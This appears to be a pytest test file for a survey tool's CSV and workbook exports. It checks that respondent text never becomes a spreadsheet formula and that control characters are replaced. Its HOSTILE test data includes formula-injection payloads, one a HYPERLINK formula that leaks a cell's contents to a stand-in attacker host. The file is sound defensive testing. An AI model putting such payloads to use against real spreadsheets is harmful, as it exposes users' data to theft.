"""Exports that cannot be turned against the owner: a respondent's text never becomes
a formula in the CSV or the workbook (LibreOffice, which the tests did not write, is
the judge), numbers stay numbers, and control characters already stored export."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from exports import responses_csv as exports
from exports import responses_xlsx as xlsx_export
from storage import responses
from storage import surveys as survey_store
from storage.database import writing
from surveys.model import Survey
from tests.helpers import libreoffice_csv

# What respondents typed, and the cell each must become in a CSV or workbook.
HOSTILE = {
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for 50% off")': None,
    "=1+1": None,
    "+1+1": None,
    "-1+1": None,
    "@SUM(1+1)": None,
    "\t=1+1": None,
    "\r=1+1": None,
    "＝1+1": None,  # full width, as a Japanese input method types it
    "'=1+1": "''=1+1",  # a quote of its own: one more, so a re-import can take one off
    "-5": None,  # a text that looks like a number is still the respondent's text
}
HOSTILE = {typed: cell or "'" + typed for typed, cell in HOSTILE.items()}
HARMLESS = ["Friendly staff", "価格が安い", "'Tis fine", "a-b=c", "#N/A"]


@pytest.fixture
def hostile(workspace, nps_survey) -> Survey:
    """A response for each text above, scored 0 to 9, and one scored -1 (a number a
    script or an old version could have stored: it must stay a number)."""
    db = workspace.db()
    for i, text in enumerate([*HOSTILE, *HARMLESS]):
        responses.record(db, nps_survey, {"nps": i % 10, "reason": text}, language="en")
    last = responses.record(db, nps_survey, {"nps": 1}, language="en")
    nps_id = survey_store.question_ids(db, nps_survey.id)["nps"]
    with writing(db):
        db.execute(
            "UPDATE answers SET value_num = -1 WHERE response_id = ? AND question_id = ?",
            [last, nps_id],
        )
    return nps_survey


def expected_reasons() -> list[str]:
    return [*HOSTILE.values(), *HARMLESS, ""]


def lines(cells: list[str]) -> list[str]:
    """Cells with CR as LF: XML and LibreOffice read a CR inside a cell as a line break."""
    return [cell.replace("\r", "\n") for cell in cells]


def test_csv_cells_are_never_formulas_for_libreoffice(workspace, hostile, tmp_path):
    out = tmp_path / "answers.csv"
    exports.export_csv(workspace.db(), hostile, out)

    with out.open(newline="", encoding="utf-8") as stream:
        rows = list(csv.reader(stream))
    reason, nps = rows[0].index("reason"), rows[0].index("nps")
    assert [r[reason] for r in rows[1:]] == expected_reasons()
    assert rows[-1][nps] == "-1"  # a number: no quote in front
    assert ",-1," in out.read_text(encoding="utf-8")

    shown = libreoffice_csv(out, tmp_path)
    # Every cell LibreOffice shows is the text in the file: no formula ran, no link.
    assert lines([r[reason] for r in shown[1:]]) == lines(expected_reasons())
    assert shown[-1][nps] == "-1"


def test_workbook_text_cells_are_strings_never_formulas(workspace, hostile, tmp_path):
    out = tmp_path / "answers.xlsx"
    xlsx_export.write_xlsx(workspace.db(), hostile, out)

    book = openpyxl.load_workbook(out)
    sheet = book["Responses"]
    names = [c.value for c in sheet[1]]
    reasons = [row[names.index("reason")] for row in sheet.iter_rows(min_row=2)]
    assert lines([c.value or "" for c in reasons]) == lines(expected_reasons())
    assert all(c.data_type == "s" for c in reasons if c.value is not None)
    scores = [row[names.index("nps")] for row in sheet.iter_rows(min_row=2)]
    assert scores[-1].value == -1 and scores[-1].data_type == "n"
    for every in book.worksheets:
        for row in every.iter_rows():
            assert not [c.coordinate for c in row if c.data_type in ("f", "e")], every.title
    book.close()

    shown = libreoffice_csv(out, tmp_path)  # the first sheet: Responses
    assert lines([r[names.index("reason")] for r in shown[1:]]) == lines(expected_reasons())
    assert shown[-1][names.index("nps")] == "-1"


def test_the_codebook_says_what_a_leading_quote_means(workspace, nps_survey, tmp_path):
    out = tmp_path / "answers.csv"
    _count, codebook = exports.export_csv(workspace.db(), nps_survey, out)

    rows = {r[0]: r for r in csv.reader(io.StringIO(codebook.read_text(encoding="utf-8")))}
    assert "A ' was put before a text that began with = + - @" in rows["reason"][-1]
    assert "A ' was put before a text that began with = + - @" in rows["source"][-1]
    assert "'" not in rows["nps"][-1]  # a score is a number: nothing to say


CONTROL = "Good\x00 coffee\x01, slow\x1b[2J service\x7f"
SHOWN = "Good\ufffd coffee\ufffd, slow\ufffd[2J service\ufffd"


@pytest.fixture
def controlled(workspace, nps_survey) -> Survey:
    """Answers holding NUL, SOH, ESC and DEL, written straight into the file (an older
    version, a synced host or a hand-edited file could have left them there)."""
    db = workspace.db()
    responses.record(db, nps_survey, {"nps": 3, "reason": "placeholder"}, language="en")
    with writing(db):
        db.execute("UPDATE answers SET value_text = ? WHERE value_text = 'placeholder'", [CONTROL])
        db.execute("UPDATE responses SET source = ?", ["\x1bshop"])
    return nps_survey


def test_csv_survives_control_characters_and_shows_where_they_were(workspace, controlled, tmp_path):
    out = tmp_path / "answers.csv"
    assert exports.export_csv(workspace.db(), controlled, out)[0] == 1

    text = out.read_text(encoding="utf-8")
    assert not [c for c in text if ord(c) < 32 and c not in "\r\n"]
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][rows[0].index("reason")] == SHOWN
    assert rows[1][rows[0].index("source")] == "\ufffdshop"


def test_workbook_survives_control_characters_and_shows_where_they_were(
    workspace, controlled, tmp_path
):
    out = tmp_path / "answers.xlsx"
    assert xlsx_export.write_xlsx(workspace.db(), controlled, out) == 1

    book = openpyxl.load_workbook(out, read_only=True)
    rows = list(book["Responses"].iter_rows(values_only=True))
    names = exports.columns(controlled)  # the workbook's columns are the CSV's, in order
    assert rows[1][names.index("reason")] == SHOWN
    assert rows[1][names.index("source")] == "\ufffdshop"
    book.close()
    assert libreoffice_csv(out, tmp_path)[1][names.index("reason")] == SHOWN
